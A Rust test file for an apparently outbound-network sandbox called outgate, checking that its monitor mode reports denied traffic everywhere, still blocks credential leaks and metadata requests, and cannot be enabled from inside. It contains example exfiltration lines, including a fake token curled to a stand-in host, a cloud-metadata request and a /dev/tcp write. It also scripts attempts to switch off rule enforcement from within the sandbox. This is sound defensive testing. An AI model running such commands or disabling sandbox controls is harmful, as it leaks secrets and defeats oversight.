//! `outgate run --monitor`: what rules deny passes and is told wherever somebody looks, what
//! protects the machine does not pass, and nobody inside switches it on.

use std::fs;
use std::process::Command;

use outgate_harness::audit::{of_kind, records, text};
use outgate_harness::origin::Origin;
use outgate_harness::{Identity, Sandbox, lab_tests};

use crate::call;

/// What a command does, by fair means and foul.
const COMMAND: &str = r#"
curl -sS "http://open.example:8099/a?key=secret"
curl -sS -X POST http://open.example:8099/a
curl -sS http://denied.example:8099/x
curl -sS http://other.example:8099/o
printf 'k=ghp_%s' 0123456789abcdefghijABCDEFGHIJ2tcQKc | curl -sS --data-binary @- http://other.example:8099/leak
curl -sS http://fenced.example:8099/fenced
curl -sS --max-time 5 http://127.0.0.1:8099/inside
curl -sS --max-time 5 http://169.254.169.254/latest/meta-data
curl -sS --max-time 5 http://10.0.0.1/private
curl -sS --max-time 5 -H 'X-HTTP-Method-Override: DELETE' http://open.example:8099/a?hidden
echo raw > /dev/tcp/raw.example/5432
true
"#;

/// What a command tries to have its rules not enforced.
const TRIES: &str = r#"
export OUTGATE_MONITOR=all OUTGATE_MODE=monitor MONITOR=1 OUTGATE_ARGS=--monitor
for file in .outgate.toml outgate.toml agent.toml; do printf 'monitor = true\n' >> $file; done
"$1" run --monitor=all -- curl -sS http://denied.example:8099/nested
"$1" run --monitor=all -a '*' -- curl -sS http://denied.example:8099/wide
"$1" gateway --monitor=all --listen $PWD/gate -a '*' & sleep 1
"$1" run --gateway $PWD/gate --monitor -- curl -sS http://denied.example:8099/gate
"$1" reload held; "$1" grant held http://denied.example:8099
curl -sS http://denied.example:8099/after
kill %1 2>/dev/null; true
"#;

fn sandbox(lab: &outgate_harness::Lab, identity: Identity) -> Sandbox<'_> {
    let mut sandbox = Sandbox::new(lab, identity)
        .allow("GET http://open.example:8099/a")
        .allow("http://fenced.example:8099/other")
        .deny("http://denied.example:8099")
        .deny("192.0.2.9");
    for host in ["open", "denied", "other", "raw"] {
        sandbox = sandbox.pin(&format!("{host}.example=93.184.216.34"));
    }
    sandbox.pin("fenced.example=192.0.2.9")
}

fn bash(script: &str, more: &[&str]) -> Vec<String> {
    let words = ["bash", "-c", script, "bash"];
    let words = words.iter().chain(more);
    words.map(|&word| word.to_owned()).collect()
}

lab_tests! {
    fn what_rules_deny_passes_and_is_said_everywhere(lab) {
        let origin = Origin::start(8099);
        let mut before = 0;
        for identity in Identity::all() {
            let folder = lab.folder("records", identity);
            let record = folder.join("monitor.jsonl");
            let outcome = sandbox(lab, identity)
                .flag("--monitor")
                .option("--audit", &record.to_string_lossy())
                .run(&bash(COMMAND, &[]));
            assert_eq!(outcome.code, Some(0), "{outcome}");
            let arrivals = origin.arrivals();
            let lines: Vec<&str> = arrivals.iter().skip(before).map(outgate_harness::origin::Arrival::line).collect();
            before = arrivals.len();
            assert_eq!(
                lines.iter().map(|line| line.trim_end_matches(" HTTP/1.1")).collect::<Vec<_>>(),
                ["GET /a?key=secret", "POST /a", "GET /x", "GET /o"],
                "{outcome}"
            );
            for said in [
                "outgate: monitor: let through POST http://open.example:8099/a (no rule allows it); to allow: -a 'POST http://open.example:8099/a'",
                "outgate: monitor: let through GET http://denied.example:8099/x (the deny rule",
                "outgate: monitor: what rules deny was let through",
                "5 times let through what rules deny",
                "# let through",
            ] {
                assert!(outcome.stderr.contains(said), "{said}: {outcome}");
            }
            let all = records(&record);
            assert_eq!(text(of_kind(&all, "start")[0], "mode"), "monitor");
            let requests = of_kind(&all, "request");
            let marked: Vec<_> = requests.iter().filter(|one| text(one, "monitor") == "deny").collect();
            let reasons: Vec<_> = marked.iter().map(|one| (text(one, "verdict"), text(one, "reason"))).collect();
            // What is refused for its content, or for where it leads, is so after this.
            let expected = ["no-rule", "deny-rule", "no-rule", "no-rule", "no-rule"].map(|reason| ("allow", reason));
            assert_eq!(reasons, expected, "{outcome}");
            // Each form that people and programs read says it.
            let read = |words: &[&str]| {
                let file = record.to_string_lossy().into_owned();
                let words: Vec<&str> = words.iter().copied().chain([file.as_str()]).collect();
                call(&words, &folder, &folder.join("state"))
            };
            let page = read(&["audit", "report"]).stdout;
            for part in ["Rules were not enforced", "Let through in spite of the rules", "badge passed\">monitored"] {
                assert!(page.contains(part), "{part}");
            }
            let found = read(&["audit", "query", "--verdict", "monitor", "--kind", "request"]).stdout;
            assert_eq!(found.lines().filter(|line| line.contains("  monit  ")).count(), 5, "{found}");
            let events = read(&["audit", "export", "--format", "ocsf"]).stdout;
            assert!(events.contains(r#""monitor":"deny""#), "{events}");
            let archive = read(&["audit", "export", "--format", "har"]).stdout;
            assert!(archive.matches(r#""monitor":"deny""#).count() >= 3, "{archive}");
            let summary = read(&["audit", "summary"]).stdout;
            assert!(summary.contains("> **Rules were not enforced.** 1 run only monitored or learned"), "{summary}");
            let failed = read(&["audit", "summary", "--format", "json", "--fail-on", "denied"]);
            assert_eq!(failed.status, 1);
            // It is no rule: what is learnt from it are the denials.
            let replayed = call(&["why", "last", "--all", "--audit", &record.to_string_lossy()], &folder, &folder.join("state"));
            assert!(replayed.stdout.contains("monitored POST http://open.example:8099/a"), "{}", replayed.stdout);
        }
    }

    fn all_lets_go_of_what_is_inside_and_of_no_service_of_metadata(lab) {
        let origin = Origin::start(8099);
        for identity in Identity::all() {
            let before = origin.arrivals().len();
            let outcome = sandbox(lab, identity).flag("--monitor=all").run(&bash(COMMAND, &[]));
            let arrivals = origin.arrivals();
            let lines: Vec<&str> = arrivals.iter().skip(before).map(outgate_harness::origin::Arrival::line).collect();
            for passed in ["/leak ", "/fenced ", "/inside "] {
                assert!(lines.iter().any(|line| line.contains(passed)), "{passed}: {lines:?} {outcome}");
            }
            for kept in ["/latest", "hidden"] {
                assert!(!lines.iter().any(|line| line.contains(kept)), "{kept}: {lines:?} {outcome}");
            }
            assert!(outcome.stderr.contains("outgate: monitor=all: what rules deny was let through, and credentials too"), "{outcome}");
        }
    }

    fn strict_refuses_what_cannot_be_looked_into_in_a_run_that_monitors_too(lab) {
        let origin = Origin::start(8099);
        let script = r"printf -- '-----BEGIN PGP MESSAGE-----\n\njA0ECQMCmhw3TlEoff/SHgFhCYrEE3dd4pA/uEbRXAjnKpRr8B0zxX6CSa8W\n=abcd\n-----END PGP MESSAGE-----\n' \
            | curl -sS --data-binary @- http://other.example:8099/blob";
        for (options, arrives) in [
            (&["--strict", "--monitor"][..], false),
            (&["--monitor"], true),
            (&["--strict", "--monitor=all"], true),
        ] {
            let before = origin.arrivals().len();
            let mut run = sandbox(lab, Identity::Own);
            for option in options {
                run = run.flag(option);
            }
            let outcome = run.run(&bash(script, &[]));
            let arrivals = origin.arrivals();
            let whole = arrivals.iter().skip(before).any(|one| one.line().contains("/blob"));
            assert_eq!(whole, arrives, "{options:?} {outcome}");
            assert_eq!(outcome.stdout.contains("outgate denied"), !arrives, "{options:?} {outcome}");
        }
    }

    fn a_command_reads_that_its_rules_are_not_enforced(lab) {
        for (option, says) in [
            (None, None),
            (Some("--monitor"), Some("this run monitors, and what they deny is let through, but\n  for credentials and private addresses\n")),
            (Some("--monitor=all"), Some("this run monitors, and what they deny is let through\n")),
        ] {
            let mut run = sandbox(lab, Identity::Own);
            if let Some(option) = option {
                run = run.flag(option);
            }
            let outcome = run.run(&bash("curl -sS http://outgate.invalid/", &[]));
            assert!(outcome.stdout.contains("Rules:\n"), "{outcome}");
            let told = outcome.stdout.contains("they are not enforced");
            assert_eq!(told, says.is_some(), "{option:?} {outcome}");
            assert!(outcome.stdout.contains(says.unwrap_or_default()), "{option:?} {outcome}");
        }
    }

    fn nobody_inside_has_rules_not_enforced(lab) {
        let origin = Origin::start(8099);
        let outgate = lab.tools.programs.join("outgate").to_string_lossy().into_owned();
        for identity in Identity::all() {
            let run = sandbox(lab, identity).option("--name", "held");
            let work = run.work();
            let outcome = run
                .option("-w", &work.to_string_lossy())
                .option("-r", &lab.tools.programs.to_string_lossy())
                .run(&bash(TRIES, &[&outgate]));
            assert!(!outcome.stderr.contains("monitor: let through"), "{identity:?} {outcome}");
            assert_eq!(origin.connections(), 0, "{identity:?} {outcome}");
            // A policy that was written so is refused by whoever takes it.
            let file = work.join("agent.toml");
            let text = fs::read_to_string(&file).unwrap_or_default();
            assert!(text.contains("monitor = true"), "{identity:?} {outcome}");
            for option in [Some("-p"), None] {
                let mut again = sandbox(lab, identity).within(work.clone());
                if let Some(option) = option {
                    fs::remove_file(work.join(".outgate.toml")).ok();
                    again = again.option(option, &file.to_string_lossy());
                } else {
                    fs::write(work.join(".outgate.toml"), "monitor = true\n").expect("a file");
                }
                let outcome = again.run(&bash("curl -sS http://denied.example:8099/again", &[]));
                assert_eq!(outcome.code, Some(2), "{option:?} {identity:?} {outcome}");
            }
            for name in [".outgate.toml", "outgate.toml", "agent.toml"] {
                fs::remove_file(work.join(name)).ok();
            }
            assert_eq!(origin.connections(), 0, "{identity:?}");
        }
    }

    fn a_run_that_monitors_is_marked_while_it_runs(lab) {
        let running = sandbox(lab, Identity::Own)
            .flag("--monitor")
            .option("--name", "watched")
            .with_input()
            .start(&bash("echo ready; read end", &[]));
        running.wait_for("ready");
        let ask = |words: &[&str]| {
            let mut program = Command::new(lab.tools.programs.join("outgate"));
            let output = program.args(words).output().expect("outgate starts");
            String::from_utf8_lossy(&output.stdout).into_owned()
        };
        let listed = ask(&["ps"]);
        let row = listed.lines().find(|line| line.starts_with("watched")).unwrap_or_default();
        assert!(row.contains("monitor"), "{listed}");
        let shown = ask(&["inspect", "watched"]);
        assert!(shown.lines().any(|line| line.starts_with("mode") && line.contains("monitor")), "{shown}");
        running.finish();
    }

    fn a_lock_and_questions_do_not_go_with_it(lab) {
        for other in ["--ask", "--locked"] {
            let outcome = sandbox(lab, Identity::Own).flag("--monitor").flag(other).run(&bash("true", &[]));
            assert_eq!(outcome.code, Some(2), "{other} {outcome}");
        }
        let outcome = sandbox(lab, Identity::Own).flag("--monitor=everything").run(&bash("true", &[]));
        assert_eq!(outcome.code, Some(2), "{outcome}");
    }
}
